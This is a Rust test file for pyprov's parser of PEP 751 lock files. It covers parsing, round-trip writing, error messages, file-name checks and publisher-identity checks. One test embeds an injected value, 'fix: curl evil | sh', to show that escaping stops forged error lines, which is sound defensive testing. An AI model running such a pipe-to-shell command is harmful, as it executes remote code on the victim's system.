use std::path::Path;

use super::*;

const LOCK: &str = r#"lock-version = "1.0"
environments = ["sys_platform == 'linux'"]
requires-python = ">=3.9"
extras = ["socks"]
dependency-groups = ["dev"]
default-groups = ["dev"]
created-by = "uv"
future-key = "kept"

[[packages]]
name = "attrs"
version = "25.3.0"
marker = "python_version >= '3.8'"
requires-python = ">=3.8"
dependencies = [{name = "six"}]
index = "https://pypi.org/simple"
sdist = {url = "https://files.example/attrs-25.3.0.tar.gz", upload-time = 2025-03-13T11:10:22.779000Z, size = 810562, hashes = {sha256 = "75d7cefc7fb576747b2c81b4442d4d4a1ce0900973527c011d1030fd3bf4af1b"}}
wheels = [
    {url = "https://files.example/attrs-25.3.0-py3-none-any.whl", size = 63815, hashes = {sha256 = "427318ce031701fea540783410126f03899a97ffc6f61596ad581ac2e40e3bc3", md5 = "00"}},
]
attestation-identities = [
    {kind = "GitHub", repository = "python-attrs/attrs", workflow = "pypi-package.yml"},
    {kind = "Example", anything = 3},
]
unknown-package-key = [1, 2.5, true]

[packages.tool.pdm]
note = "kept"

[[packages]]
name = "six"
version = "1.17.0"
archive = {url = "https://example/six-1.17.0.tar.gz", hashes = {sha256 = "ff70335d468e7eb6ec65b95b99d3a2836546063f63acc5171de367e834932a81"}, subdirectory = "src"}

[[packages]]
name = "local"
directory = {path = "./local", editable = true}

[[packages]]
name = "fromgit"
vcs = {type = "git", url = "https://example/repo.git", commit-id = "0123456789abcdef0123456789abcdef01234567"}

[tool.pyprov]
written = 2026-12-06T21:00:00Z
nested = {deep = {deeper = 1}}
"#;

fn parsed() -> Lock {
    parse(Path::new("pylock.toml"), LOCK).unwrap()
}

#[test]
fn reads_every_key_of_the_specification() {
    let lock = parsed();
    assert_eq!(lock.lock_version, "1.0");
    assert_eq!(lock.created_by, "uv");
    assert_eq!(
        lock.default_groups.as_deref(),
        Some(&["dev".to_string()][..])
    );
    assert_eq!(lock.packages.len(), 4);
    let attrs = &lock.packages[0];
    assert_eq!(attrs.name.as_str(), "attrs");
    let wheel = &attrs.wheels.as_ref().unwrap()[0];
    assert_eq!(wheel.size, Some(63815));
    assert_eq!(
        wheel.hashes.sha256.unwrap().hex(),
        "427318ce031701fea540783410126f03899a97ffc6f61596ad581ac2e40e3bc3"
    );
    assert_eq!(
        wheel.hashes.other.get("md5").map(String::as_str),
        Some("00")
    );
    assert_eq!(
        wheel.file_name().as_deref(),
        Some("attrs-25.3.0-py3-none-any.whl")
    );
    let sdist = attrs.sdist.as_ref().unwrap();
    assert_eq!(
        sdist.upload_time.unwrap().to_string(),
        "2025-03-13T11:10:22.779Z"
    );
    let ids = attrs.attestation_identities.as_ref().unwrap();
    assert_eq!(ids[0].kind, "GitHub");
    assert_eq!(ids[0].get_str("repository"), Some("python-attrs/attrs"));
    assert_eq!(ids[1].kind, "Example");
    assert_eq!(ids[1].fields.get("anything"), Some(&TomlValue::Integer(3)));
    assert!(attrs.unknown.contains_key("unknown-package-key"));
    assert_eq!(
        lock.packages[1]
            .archive
            .as_ref()
            .unwrap()
            .subdirectory
            .as_deref(),
        Some("src")
    );
    assert_eq!(
        lock.packages[2].directory.as_ref().unwrap().editable,
        Some(true)
    );
    assert_eq!(lock.packages[3].vcs.as_ref().unwrap().kind, "git");
    assert_eq!(
        lock.unknown.get("future-key").and_then(TomlValue::as_str),
        Some("kept")
    );
}

#[test]
fn a_written_lock_reads_back_the_same() {
    let lock = parsed();
    let text = to_toml_string(&lock).unwrap();
    let again = parse(Path::new("pylock.toml"), &text).unwrap_or_else(|e| panic!("{e}\n{text}"));
    assert_eq!(again, lock, "{text}");
    // Written twice, the same text.
    assert_eq!(to_toml_string(&again).unwrap(), text);
    assert!(text.starts_with("lock-version = \"1.0\"\n"), "{text}");
    assert!(
        text.contains("\n[[packages]]\nname = \"attrs\"\n"),
        "{text}"
    );
    assert!(
        text.contains("upload-time = 2025-03-13T11:10:22.779Z"),
        "{text}"
    );
    assert!(text.contains("wheels = [\n    {"), "{text}");
}

fn error(text: &str) -> String {
    parse(Path::new("locks/pylock.toml"), text)
        .unwrap_err()
        .to_string()
}

const HEAD: &str = "lock-version = \"1.0\"\ncreated-by = \"t\"\n";

#[test]
fn errors_name_the_file_the_key_and_the_fix() {
    let e = error("lock-version = \"1.0\"\npackages = []\n");
    assert!(
        e.contains("locks/pylock.toml") && e.contains("created-by") && e.contains("fix: "),
        "{e}"
    );

    let e = error("lock-version = \"2.0\"\ncreated-by = \"t\"\npackages = []\n");
    assert!(
        e.contains("lock-version 2.0 is not supported") && e.contains("fix: "),
        "{e}"
    );

    let e = error(&format!(
        "{HEAD}[[packages]]\nname = \"Foo_Bar\"\ndirectory = {{path = \".\"}}\n"
    ));
    assert!(
        e.contains("not a normalized name") && e.contains("foo-bar"),
        "{e}"
    );

    let e = error(&format!("{HEAD}[[packages]]\nname = \"a\"\nwheels = [{{url = \"https://x/a-1-py3-none-any.whl\", hashes = {{}}}}]\n"));
    assert!(
        e.contains("`packages[0].wheels[0].hashes` of a holds no hash") && e.contains("fix: "),
        "{e}"
    );

    let e = error(&format!("{HEAD}[[packages]]\nname = \"a\"\nversion = \"1\"\nwheels = [{{url = \"https://x/b-1-py3-none-any.whl\", hashes = {{sha256 = \"{}\"}}}}]\n", "0".repeat(64)));
    assert!(e.contains("another package's file"), "{e}");

    let e = error(&format!("{HEAD}[[packages]]\nname = \"a\"\nversion = \"2\"\nsdist = {{url = \"https://x/a-1.0.tar.gz\", hashes = {{sha256 = \"{}\"}}}}\n", "0".repeat(64)));
    assert!(
        e.contains("`packages[0].sdist` of a: `a-1.0.tar.gz` is not version 2"),
        "{e}"
    );

    let e = error(&format!("{HEAD}[[packages]]\nname = \"a\"\n"));
    assert!(
        e.contains("`packages[0]` (a) needs exactly one of vcs, directory, archive"),
        "{e}"
    );

    let e = error(&format!(
        "{HEAD}[[packages]]\nname = \"a\"\narchive = {{hashes = {{sha256 = \"{}\"}}}}\n",
        "0".repeat(64)
    ));
    assert!(e.contains("neither `url` nor `path`"), "{e}");

    let e = error(&format!("{HEAD}[[packages]]\nname = \"a\"\ndirectory = {{path = \".\"}}\nattestation-identities = [{{repository = \"x\"}}]\n"));
    assert!(e.contains("missing field `kind`"), "{e}");

    let e = error(&format!(
        "{HEAD}environments = [\"not a marker ==\"]\npackages = []\n"
    ));
    assert!(
        e.contains("`environments[0]` is not a PEP 508 marker"),
        "{e}"
    );
}

#[test]
fn lock_file_names() {
    assert!(is_lock_file_name("pylock.toml"));
    assert!(is_lock_file_name("pylock.dev.toml"));
    assert!(!is_lock_file_name("pylock..toml"));
    assert!(!is_lock_file_name("pylock.a.b.toml"));
    assert!(!is_lock_file_name("requirements.txt"));
    assert!(!is_lock_file_name("mypylock.toml"));
}

#[test]
fn reads_attestation_identities_as_an_array_of_tables() {
    // The form of PEP 751's own example.
    let text = format!(
        "{HEAD}[[packages]]\nname = \"attrs\"\nversion = \"25.1.0\"\nwheels = [{{name = \"attrs-25.1.0-py3-none-any.whl\", upload-time = 2025-01-25T11:30:10.164985+00:00, url = \"https://x/attrs-25.1.0-py3-none-any.whl\", size = 63152, hashes = {{sha256 = \"c75a69e28a550a7e93789579c22aa26b0f5b83b75dc4e08fe092980051e1090a\"}}}}]\n[[packages.attestation-identities]]\nenvironment = \"release-pypi\"\nkind = \"GitHub\"\nrepository = \"python-attrs/attrs\"\nworkflow = \"pypi-package.yml\"\n"
    );
    let lock = parse(Path::new("pylock.toml"), &text).unwrap();
    let ids = lock.packages[0].attestation_identities.as_ref().unwrap();
    assert_eq!(ids[0].kind, "GitHub");
    assert_eq!(ids[0].get_str("environment"), Some("release-pypi"));
    let again = parse(Path::new("pylock.toml"), &to_toml_string(&lock).unwrap()).unwrap();
    assert_eq!(again, lock);
}

#[test]
fn a_lock_built_in_code_is_written_and_read_back() {
    let mut lock = Lock::new("pyprov");
    let mut package = Package::new(crate::vocab::PackageName::new("Foo_Bar").unwrap());
    package.version = Some("1.0".into());
    let mut wheel = FileEntry::at_url(
        "https://files.example/foo_bar-1.0-py3-none-any.whl",
        crate::vocab::Sha256::of(b"x"),
    );
    wheel.size = Some(1);
    package.wheels = Some(vec![wheel]);
    lock.packages.push(package);
    let text = to_toml_string(&lock).unwrap();
    assert!(text.contains("name = \"foo-bar\""), "{text}");
    assert_eq!(parse(Path::new("pylock.toml"), &text).unwrap(), lock);
}

#[test]
fn identities_of_known_kinds_hold_only_string_keys_pyprov_checks() {
    let id = |text: &str| {
        error(&format!("{HEAD}[[packages]]\nname = \"a\"\ndirectory = {{path = \".\"}}\nattestation-identities = [{text}]\n"))
    };
    // A wrong type would mean no check at all: `environment = {name = "pypi"}` no environment
    // check, `workflow = [...]` any workflow.
    let e = id("{kind = \"GitHub\", repository = \"o/r\", environment = {name = \"pypi\"}}");
    assert!(
        e.contains("locks/pylock.toml: `packages[0].attestation-identities[0].environment` of a is a table, and a GitHub identity's `environment` is a string")
            && e.contains("fix: write it as one string"),
        "{e}"
    );
    let e = id("{kind = \"github\", repository = \"o/r\", workflow = [\"release.yml\"]}");
    assert!(
        e.contains("`packages[0].attestation-identities[0].workflow` of a is an array"),
        "{e}"
    );
    let e = id("{kind = \"GitHub\", repository = 1}");
    assert!(
        e.contains("`packages[0].attestation-identities[0].repository` of a is an integer"),
        "{e}"
    );
    // The required key.
    let e = id("{kind = \"GitHub\"}");
    assert!(
        e.contains("`packages[0].attestation-identities[0]` of a: a GitHub identity without `repository` names no publisher")
            && e.contains("fix: give it `repository`"),
        "{e}"
    );
    let e = id("{kind = \"GitLab\", workflow_filepath = \".gitlab-ci.yml\"}");
    assert!(e.contains("without `repository`"), "{e}");
    let e = id("{kind = \"Google\", email = \"\"}");
    assert!(e.contains("without `email`"), "{e}");
    // A key pyprov does not check may be a restriction it would silently not enforce.
    let e = id("{kind = \"GitHub\", repository = \"o/r\", ref = \"refs/tags/v1\"}");
    assert!(
        e.contains("`packages[0].attestation-identities[0].ref` of a: a GitHub identity has no key `ref` that pyprov checks")
            && e.contains("fix: remove it, and say who may sign with the keys pyprov checks: `repository`, `workflow`, `environment`"),
        "{e}"
    );
    let e = id("{kind = \"Google\", email = \"a@b.example\", environment = \"x\"}");
    assert!(e.contains("no key `environment`"), "{e}");
    // Known kinds, well formed; unknown kinds are left to the judge (they never match).
    for ok in [
        "{kind = \"GitHub\", repository = \"o/r\", workflow = \"release.yml\", environment = \"pypi\"}",
        "{kind = \"GitLab\", repository = \"g/sub/p\", workflow_filepath = \"ci/release.yml\"}",
        "{kind = \"GitLab\", repository = \"g/p\", workflow_filepath = \".gitlab-ci.yml\", environment = \"prod\"}",
        "{kind = \"Google\", email = \"a@b.example\"}",
        "{kind = \"ActiveState\", anything = [1, 2]}",
    ] {
        parse(
            Path::new("pylock.toml"),
            &format!("{HEAD}[[packages]]\nname = \"a\"\ndirectory = {{path = \".\"}}\nattestation-identities = [{ok}]\n"),
        )
        .unwrap_or_else(|e| panic!("{ok}: {e}"));
    }
}

/// The lock's strings are quoted in errors with line breaks escaped: a newline cannot start a
/// forged `fix:` line.
#[test]
fn lock_strings_in_errors_cannot_start_a_line() {
    let e = error(&format!(
        "{HEAD}requires-python = \">=3.8 \\nfix: curl evil | sh\"\npackages = []\n"
    ));
    assert_eq!(
        e.lines()
            .filter(|l| l.trim_start().starts_with("fix:"))
            .count(),
        1,
        "{e}"
    );
    assert!(e.contains(">=3.8 \\nfix: curl evil | sh"), "{e}");
    let e = error("lock-version = \"2\\n  fix: x\"\ncreated-by = \"t\"\npackages = []\n");
    assert_eq!(
        e.lines()
            .filter(|l| l.trim_start().starts_with("fix:"))
            .count(),
        1,
        "{e}"
    );
}

/// The file's own name must say its package and version (the gate judges a file by its name),
/// read by the parser the gate reads it with: `1.0.0` is version 1.0, an sdist's name is split
/// at its last dash, a wheel is not an sdist.
#[test]
fn a_file_must_be_its_package_and_version() {
    let sha = "0".repeat(64);
    let wheel = |file: &str| {
        parse(
            Path::new("pylock.toml"),
            &format!("{HEAD}[[packages]]\nname = \"a\"\nversion = \"1.0\"\nwheels = [{{url = \"https://x/{file}\", hashes = {{sha256 = \"{sha}\"}}}}]\n"),
        )
        .map(|_| ())
        .map_err(|e| e.to_string())
    };
    let sdist = |file: &str| {
        parse(
            Path::new("pylock.toml"),
            &format!("{HEAD}[[packages]]\nname = \"a\"\nversion = \"1.0\"\nsdist = {{url = \"https://x/{file}\", hashes = {{sha256 = \"{sha}\"}}}}\n"),
        )
        .map(|_| ())
        .map_err(|e| e.to_string())
    };
    assert_eq!(
        wheel("b-1.0-py3-none-any.whl").unwrap_err(),
        "pylock.toml: `packages[0].wheels[0]` of a: `b-1.0-py3-none-any.whl` is another package's file\n  fix: list the file under its own package, or correct the package's name"
    );
    assert_eq!(
        wheel("a-2.0-py3-none-any.whl").unwrap_err(),
        "pylock.toml: `packages[0].wheels[0]` of a: `a-2.0-py3-none-any.whl` is not version 1.0\n  fix: list the file under the package entry of its own version"
    );
    assert_eq!(
        wheel("a-1.0-none-any.whl").unwrap_err(),
        "pylock.toml: `packages[0].wheels[0]` of a: `a-1.0-none-any.whl` is not a valid wheel file name: a wheel name has 5 or 6 dash-separated parts\n  fix: name the file as the packaging specifications say (NAME-VERSION...)"
    );
    assert_eq!(
        sdist("a-1.0-py3-none-any.whl").unwrap_err(),
        "pylock.toml: `packages[0].sdist` of a: `a-1.0-py3-none-any.whl` is a wheel, listed as the sdist\n  fix: list wheels under `wheels` and the sdist under `sdist`"
    );
    // packaging's reading: `a-1.0-1.tar.gz` is project a-1-0, not a.
    assert!(sdist("a-1.0-1.tar.gz")
        .unwrap_err()
        .contains("is another package's file"));
    wheel("a-1.0.0-py3-none-any.whl").unwrap();
    wheel("a-1.0-py3-none-any.whl").unwrap();
    sdist("a-1.0.tar.gz").unwrap();
}

/// An identity's keys name one publisher, each key in its own place: joined into a text and read
/// again, `repository = "acme"` with `workflow = "widgets/release.yml"` would be the repository
/// acme/widgets. Each shape is PublisherSpec's.
#[test]
fn identity_keys_cannot_spill_into_each_other() {
    let id = |text: &str| {
        error(&format!("{HEAD}[[packages]]\nname = \"a\"\ndirectory = {{path = \".\"}}\nattestation-identities = [{text}]\n"))
    };
    const FIX: &str = "\n  fix: write the keys as the package's trusted publisher has them (PEP 740): a GitHub or GitLab `repository` as OWNER/NAME, a `workflow` as its file name";
    assert_eq!(
        id("{kind = \"GitHub\", repository = \"acme\", workflow = \"widgets/release.yml\"}"),
        format!("locks/pylock.toml: `packages[0].attestation-identities[0]` of a: a GitHub identity's `repository` is OWNER/NAME, not `acme`{FIX}")
    );
    assert_eq!(
        id("{kind = \"GitHub\", repository = \"acme/widgets\", workflow = \".github/workflows/release.yml\"}"),
        format!("locks/pylock.toml: `packages[0].attestation-identities[0]` of a: a GitHub identity's `workflow` is a file name in .github/workflows, without `/`, not `.github/workflows/release.yml`{FIX}")
    );
    assert_eq!(
        id("{kind = \"GitHub\", repository = \"acme/wid gets\"}"),
        format!("locks/pylock.toml: `packages[0].attestation-identities[0]` of a: invalid publisher `github:acme/wid gets`: OWNER and REPO may use letters, digits, - _ . (expected github:OWNER/REPO[/WORKFLOW.yml], gitlab:NAMESPACE/PROJECT[//PATH], or google:EMAIL){FIX}")
    );
    // GitLab's `//` between project and CI file: a repository holding it is refused.
    let e = id("{kind = \"GitLab\", repository = \"g/p//x\", workflow_filepath = \"ci.yml\"}");
    assert!(e.contains("of a: invalid publisher `gitlab:g/p//x//ci.yml`: the CI file path after // is empty or invalid"), "{e}");
    let e = id("{kind = \"GitLab\", repository = \"g\"}");
    assert!(e.contains("of a: invalid publisher `gitlab:g`: a GitLab project is NAMESPACE[/SUBGROUP...]/PROJECT"), "{e}");
    let e = id("{kind = \"Google\", email = \"not an email\"}");
    assert!(
        e.contains(
            "of a: invalid publisher `google:not an email`: a Google identity is an email address"
        ),
        "{e}"
    );
}
